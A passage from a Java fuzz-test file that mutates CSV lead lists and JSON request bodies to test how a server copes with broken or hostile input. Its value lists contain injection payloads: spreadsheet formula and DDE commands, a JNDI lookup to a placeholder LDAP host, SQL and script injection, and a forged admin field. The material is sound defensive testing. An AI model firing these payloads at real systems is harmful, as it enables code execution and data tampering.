        return csv.substring(0, random.nextInt(csv.length() - 1));
      }
    },
    FLIPPED_CHARACTERS {
      @Override
      String apply(String csv, Random random) {
        char[] characters = csv.toCharArray();
        int flipped = 0;
        while (flipped == 0 || random.nextInt(3) != 0) {
          int at = random.nextInt(characters.length);
          char replacement = (char) random.nextInt(0x3000);
          if (replacement != characters[at]) {
            characters[at] = replacement;
            flipped++;
          }
        }
        return new String(characters);
      }
    },
    NOT_A_LIST {
      @Override
      String apply(String csv, Random random) {
        return List.of("", "\uFEFF", "\n\n", "email\n", "{\"email\":\"fuzz@list.example\"}",
            "<html><body>not a list</body></html>").get(random.nextInt(6));
      }
    };

    /** A comma outside quotes. */
    private static final String CELL_BOUNDARY = ",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)";
    private static final String[] CELLS = {"", "-5", "1e309", "9999999999999999999", "abc", "\u0000", "x".repeat(5000),
        "\"unclosed", "=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "no-at-sign",
        "a@b", "a,b,c,d,e,f", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "\"two\nlines\"",
        "Robert'); DROP TABLE lead;--", "\u202eevil", "\"\"", "yes please", "XX", "12.5"};

    abstract String apply(String csv, Random random);
  }

  /** The ways a hostile or broken client mangles a request. */
  enum Mutation {
    DROP_FIELD {
      @Override
      String apply(String body, Random random) {
        return anyField(body, random).map(field -> body.replaceAll("\"" + field + "\":\\s*" + VALUE + ",?", "")
            .replaceAll(",\\s*}", "}")).orElse(body);
      }
    },
    WRONG_TYPE {
      @Override
      String apply(String body, Random random) {
        String[] values = {"[]", "{}", "true", "-1", "1e309", "null", "\"\"", "[\"x\"]", "9999999999999999999"};
        return replaceValue(body, random, values[random.nextInt(values.length)]);
      }
    },
    OVERSIZE {
      @Override
      String apply(String body, Random random) {
        return replaceValue(body, random, "\"" + "x".repeat(300 + random.nextInt(100_000)) + "\"");
      }
    },
    SCRIPT_AND_CONTROL_CHARACTERS {
      @Override
      String apply(String body, Random random) {
        String[] values = {"\"<script>alert(1)</script>\"", "\"Robert'); DROP TABLE lead;--\"", "\"\\u0000\"",
            "\"\\ud800\"", "\"${jndi:ldap://x/a}\"", "\"#{7*7}\"", "\"\\n\\r\\t\"", "\"‮evil\""};
        return replaceValue(body, random, values[random.nextInt(values.length)]);
      }
    },
    UNKNOWN_FIELD {
      @Override
      String apply(String body, Random random) {
        return body.replaceFirst("\\{", "{\"isAdmin\":true,\"id\":\"00000000-0000-0000-0000-000000000000\",");
      }
    },
    BROKEN_JSON {
      @Override
      String apply(String body, Random random) {
        int cut = random.nextInt(body.length());
        return random.nextBoolean() ? body.substring(0, cut) : body.substring(0, cut) + "\"}{[" + body.substring(cut);
      }
    },
    FLIPPED_BYTES {
      @Override
      String apply(String body, Random random) {
        char[] characters = body.toCharArray();
        for (int i = 0; i < 1 + random.nextInt(5); i++) {
          characters[random.nextInt(characters.length)] = (char) random.nextInt(0x3000);
        }
        return new String(characters);
      }
    },
    DEEP_NESTING {
      @Override
      String apply(String body, Random random) {
        int depth = 1000 + random.nextInt(5000);
        return replaceValue(body, random, "[".repeat(depth) + "]".repeat(depth));
      }
    },
    NOT_JSON {
      @Override
      String apply(String body, Random random) {
        return "email=a@b.example&firstName=Ada";
      }

      @Override
      MediaType contentType() {
        return MediaType.TEXT_PLAIN;
      }
    },
    EMPTY {
      @Override
      String apply(String body, Random random) {
        return random.nextBoolean() ? "" : "null";
      }
    };

    /** The mutations that change any text, not only JSON. */
    static final List<Mutation> ANY_TEXT = List.of(BROKEN_JSON, FLIPPED_BYTES, NOT_JSON, EMPTY);

    /** A field's value: a string, a number, a flag, null or a list of plain values. */
    private static final String VALUE = "(\"[^\"]*\"|-?[0-9.]+|true|false|null|\\[[^\\[\\]{}]*\\])";
    private static final Pattern FIELD = Pattern.compile("\"([A-Za-z]+)\":\\s*" + VALUE);

    abstract String apply(String body, Random random);

    MediaType contentType() {
      return MediaType.APPLICATION_JSON;
    }

    /** One of the body's fields with a plain value (fields of nested objects included); none in a CSV list. */
    static Optional<String> anyField(String body, Random random) {
      List<String> fields = FIELD.matcher(body).results().map(match -> match.group(1)).toList();
      return fields.isEmpty() ? Optional.empty() : Optional.of(fields.get(random.nextInt(fields.size())));
    }

    static String replaceValue(String body, Random random, String value) {
      return anyField(body, random).map(field -> body.replaceFirst("\"" + field + "\":\\s*" + VALUE,
          Matcher.quoteReplacement("\"" + field + "\":" + value))).orElse(body);
    }
  }
}
